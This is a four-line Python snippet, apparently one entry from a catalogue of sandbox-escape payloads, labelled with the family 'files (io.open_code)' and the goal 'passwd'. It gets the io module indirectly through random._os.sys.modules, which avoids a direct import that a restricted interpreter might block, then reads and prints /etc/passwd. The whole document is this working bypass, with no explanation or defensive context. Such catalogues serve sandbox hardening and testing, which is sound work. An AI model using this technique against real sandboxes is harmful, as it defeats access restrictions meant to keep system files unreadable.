# family: files (io.open_code)   goal: passwd
import random
io = random._os.sys.modules["io"]
print(io.open_code("/etc/passwd").read().decode())
